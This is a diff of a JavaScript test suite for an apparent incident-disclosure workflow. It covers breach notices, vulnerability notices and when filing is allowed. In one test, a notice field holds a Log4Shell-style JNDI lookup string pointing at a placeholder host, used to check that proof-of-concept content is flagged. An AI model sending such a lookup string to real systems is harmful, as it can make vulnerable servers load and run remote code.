@@ -86,7 +86,13 @@ describe('an incident with personal data', () => {
   test('its text is handed out once the gate let it go, and filed it stays byte for byte', async () => {
     assert.equal((await s.us.call('GET', `${kase}/notices/${notice}/text`)).status, 409);
     assert.equal((await s.us.call('POST', `${kase}/notices/${notice}/file`, { version: 2, how: 'by letter' })).status, 409);
+    await s.clock(at(4, 10));
     await expect(200, s.us.call('POST', `${kase}/notices/${notice}/clear`, { version: 2 }));
+    // Not dated back behind the gate in silence, nor before anybody knew, nor ahead.
+    for (const [more, status, where] of [[{ at: at(4, 9) }, 409, '/unasked'], [{ at: '2020-01-01T00:00:00Z', unasked: 'It was long ago.' }, 422, '/at'], [{ at: at(20) }, 422, '/at']]) {
+      const refused = await s.us.call('POST', `${kase}/notices/${notice}/file`, { version: 2, how: 'by letter', ...more });
+      assert.deepEqual([refused.status, refused.json.errors[0].pointer], [status, where], refused.text);
+    }
     const text = await s.us.call('GET', `${kase}/notices/${notice}/text`);
     assert.equal(text.status, 200);
     assert.match(text.text, /About 400 members/);
@@ -94,7 +100,7 @@ describe('an incident with personal data', () => {
     const ruling = rulings.items.find((one) => one.disclosure.content.object === `notice:${notice}`);
     assert.equal(ruling.disclosure.channel, 'authority_notice');
     assert.equal(ruling.disclosure.basis.rule, breach);
-    const filed = cli('notice', 'file', kase.split('/').at(-1), notice, '--version', '2', '--how', 'the web form of the authority', '--at', at(4, 9), '--reference', 'AZ 4711', '--receipt', 'Received.');
+    const filed = cli('notice', 'file', kase.split('/').at(-1), notice, '--version', '2', '--how', 'the web form of the authority', '--reference', 'AZ 4711', '--receipt', 'Received.');
     assert.equal(filed.status, 0, filed.stderr);
     const all = await notices(s.us, kase);
     assert.equal(task(all, breach).state, 'met');
@@ -195,6 +201,50 @@ describe('an exploited vulnerability of a product sold in Europe', () => {
       assert.equal(offer.possible, false);
       assert.match(offer.reason, /no remedy.*: Parser 1\.0\.$/, 'and whose product it is');
     }
+  });
+
+  test('nor does a note to one go out before there is a remedy, whatever decision is named', async () => {
+    const { decision } = await expect(201, s.us.call('POST', `${kase}/decisions`, { kind: 'tell', reason: 'We want to.', who_is_exposed: 'Users', how_badly: 'Some', what_they_can_do: 'Wait' }));
+    for (const draft of [{ form: 'cnvd' }, { form: 'general', to: 'collection-platform:CN' }]) {
+      const { notice } = await expect(201, s.us.call('POST', `${kase}/notices`, draft));
+      for (const by of [{}, { decision }]) {
+        const refused = await s.us.call('POST', `${kase}/notices/${notice}/clear`, { version: 1, ...by });
+        assert.equal(refused.status, 409, refused.text);
+        assert.match(refused.text, /no remedy/);
+      }
+      assert.equal((await s.us.call('GET', `${kase}/notices/${notice}/text`)).status, 409);
+      assert.equal((await s.us.call('POST', `${kase}/notices/${notice}/file`, { version: 1, how: 'its web form', blanks_left_why: 'x' })).status, 409);
+      // The refusal is on record, each once, and what is filed in spite of it says so.
+      const about = async () => (await expect(200, s.us.call('GET', `${kase}/rulings`))).items.filter((one) => one.disclosure.content.object === `notice:${notice}`);
+      let denials = [];
+      for (let i = 0; i < 100 && denials.length < 2; ++i) denials = await about();
+      assert.deepEqual(denials.map((one) => one.ruling.outcome), ['deny', 'deny']);
+      await s.us.call('POST', `${kase}/notices/${notice}/clear`, { version: 1, decision });
+      await expect(200, s.us.call('POST', `${kase}/notices/${notice}/file`, { version: 1, how: 'its web form', unasked: 'A colleague had sent it.', blanks_left_why: 'x' }));
+      assert.equal((await about()).length, 2, 'an equal refusal adds nothing');
+      const kept = (await notices(s.us, kase)).items.find((one) => one.id === notice);
+      assert.ok(denials.some((one) => one.ruling.id === kept.filed.denied), 'the record says that it was denied');
+    }
+  });
+
+  test('a form of one stage is drafted for no other, and no stage is made up', async () => {
+    for (const draft of [{ form: 'exploited-early-warning', stage: 'notification' }, { form: 'exploited-early-warning', stage: 'zzz' }, { form: 'general', to: 'csirt-coordinator+enisa', stage: 'notification' }, { form: 'general', to: 'csirt-coordinator+enisa', stage: 'zzz' }]) {
+      const refused = await s.us.call('POST', `${kase}/notices`, draft);
+      assert.deepEqual([refused.status, refused.json.errors[0].pointer], [422, '/stage'], refused.text);
+    }
+  });
+
+  test('what a notice holds is for its author to say, and shown is where it looks so', async () => {
+    const refused = await s.us.call('POST', `${kase}/notices`, { form: 'exploited-early-warning', classes: ['colours'] });
+    assert.deepEqual([refused.status, refused.json.errors[0].pointer], [422, '/classes/0'], refused.text);
+    const { notice, signs } = await expect(201, s.us.call('POST', `${kase}/notices`, { form: 'general', to: 'csirt-coordinator', classes: ['poc'], fields: { what: 'Send ${jndi:ldap://x.example/a} to it.' } }));
+    assert.ok(signs.length > 0);
+    assert.deepEqual((await notices(s.us, kase)).items.find((one) => one.id === notice).classes, ['poc']);
+    await s.us.call('POST', `${kase}/notices/${notice}/clear`, { version: 1 });
+    let asked;
+    for (let i = 0; i < 100 && !asked; ++i) asked = (await expect(200, s.us.call('GET', `${kase}/rulings`))).items.find((one) => one.disclosure.content.object === `notice:${notice}`);
+    assert.deepEqual(asked.disclosure.content.classes, ['report-metadata', 'summary', 'poc']);
+    await expect(200, s.us.call('POST', `${kase}/notices/${notice}/drop`, { why: 'only tried' }));
   });
 
   test('the ladder has three stages, each with its clock, and each is met by its own notice', async () => {
